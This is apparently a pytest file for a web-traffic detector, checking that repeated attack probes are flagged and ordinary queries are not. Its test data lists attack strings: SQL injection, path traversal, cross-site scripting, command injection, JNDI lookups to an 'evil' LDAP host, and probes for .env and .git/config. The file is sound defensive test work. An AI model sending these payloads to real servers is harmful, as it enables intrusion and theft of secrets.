"""Probed web servers: texts of attacks however they are written, and requests that mostly fail."""

import pytest

from tests.collectors.traffic.detectors.crowd import Talk, hear, http, kinds

US, THEM = "10.0.0.10", "203.0.113.9"


def probes(paths: list[str], status: str = "200 OK", headers: dict[str, str] | None = None) -> list[str]:
    """Return the methods of what is found."""
    return [
        one.method
        for one in hear(http(THEM, US, 0.0, paths, status, headers=headers))
        if one.kind.name == "traffic.web_probed"
    ]


@pytest.mark.parametrize(
    ("path", "kind"),
    [
        ("/?id=1%27%20OR%20%271%27=%271", "SQL injection"),
        ("/?id=1+UNION+ALL+SELECT+1,2", "SQL injection"),
        ("/?id=1/**/union/**/select/**/1", "SQL injection"),
        ("/?id=1;WAITFOR%20DELAY%20'0:0:5'--", "SQL injection"),
        ("/?id=1%20AND%208362=8362", "SQL injection"),
        ("/?f=../../../../etc/hostname", "path traversal"),
        ("/?f=%252e%252e%252f%252e%252e%252f", "path traversal"),
        ("/?q=select+1&id=1+and+(select+a+from+b+where+c)", "SQL injection"),
        ("/?q=%3Cscript%3Ealert(1)", "cross-site scripting"),
        ("/?c=1;cat%20x", "command injection"),
        ("/?x=$%7Bjndi:ldap://x/a%7D", "JNDI look-up"),
        ("/?x=%3C?php%20x", "code injection"),
        ("/.env", "file that gives away secrets"),
        ("/.git/config", "file that gives away secrets"),
    ],
)
def test_texts_of_attacks_are_known_however_written(path: str, kind: str) -> None:
    assert probes([path, path]) == []
    assert probes([path, path, path]) == [kind]


@pytest.mark.parametrize(
    "path",
    [
        "/search?q=select+a+seat+from+the+map",
        "/?q=O%27Brien+and+sons",
        "/api?filter=name%20eq%20'x'%20and%20size%20gt%205",
        "/a/../b",
        "/union/select-committee",
        "/?redirect=https://example.org/%3Fa%3D1%26b%3D2",
        "/img?w=10%25&h=20%25",
        "/wiki/Script_(disambiguation)",
        "/.well-known/acme-challenge/x",
        "/query?db=telegraf&q=SELECT%20mean(%22idle%22)%20FROM%20%22cpu%22%20WHERE%20time%20%3E=%20now()%20-%206h",
        "/?database=default&query=select+*+from+a+where+b+%3D+1+or+2+%3D+2",
    ],
)
def test_ordinary_texts_are_not(path: str) -> None:
    assert probes([path] * 10) == []


def test_headers_are_looked_at_too() -> None:
    assert probes(["/"] * 3, headers={"Referer": "${jndi:ldap://evil/a}"}) == ["JNDI look-up"]


def test_requests_that_mostly_fail_are_probes() -> None:
    assert probes([f"/{n}" for n in range(59)], "404 Not Found") == []
    assert probes([f"/{n}" for n in range(60)], "404 Not Found") == ["failing requests"]
    good = http(THEM, US, 0.0, ["/"] * 60) + http(THEM, US, 0.5, [f"/{n}" for n in range(60)], "404 Not Found")
    assert kinds(hear(good)) == set(), "half of them is not most"


def posts(bodies: list[str], kind: str = "application/x-www-form-urlencoded") -> list[str]:
    """Return the methods of what is found in bodies that one client sends, one a second."""
    talk = Talk(THEM, US, 80, 0.0).open()
    for body in bodies:
        head = f"POST /x HTTP/1.1\r\nHost: a\r\nContent-Type: {kind}\r\nContent-Length: {len(body)}\r\n\r\n"
        talk.wait(1).ask((head + body).encode()).answer(b"HTTP/1.1 302 Found\r\nContent-Length: 0\r\n\r\n")
    return [one.method for one in hear(talk.close()) if one.kind.name == "traffic.web_probed"]


@pytest.mark.parametrize(
    ("kind", "body"),
    [
        (
            "application/x-www-form-urlencoded",
            "action=autosave&content=%3Cscript+src%3D%22https%3A//a.example/w.js%22%3E",
        ),
        ("application/json", '{"body": "run `cat /etc/hosts`, it begins with #!/bin/bash"}'),
    ],
)
def test_people_may_write_about_attacks_but_not_incessantly(kind: str, body: str) -> None:
    assert posts([body] * 14, kind) == []
    assert len(posts([body] * 15, kind)) == 1


@pytest.mark.parametrize(
    "body",
    [
        "SELECT toDate(ts) AS d, count() FROM events WHERE site = 'a' AND d >= today() GROUP BY d",
        '{"rawSql": "select a from b where c = 1 or 1 = 1", "format": "table"}',
        "token=1&query=select+*+from+users+where+id+%3D+4",
    ],
)
def test_whole_statements_are_what_databases_are_asked(body: str) -> None:
    assert posts([body] * 30, "text/plain") == []


def test_statements_inside_of_a_value_are_injected() -> None:
    assert posts(["query=select+1&id=1+union+all+select+null%2Cnull--+x"] * 15) == ["SQL injection"]
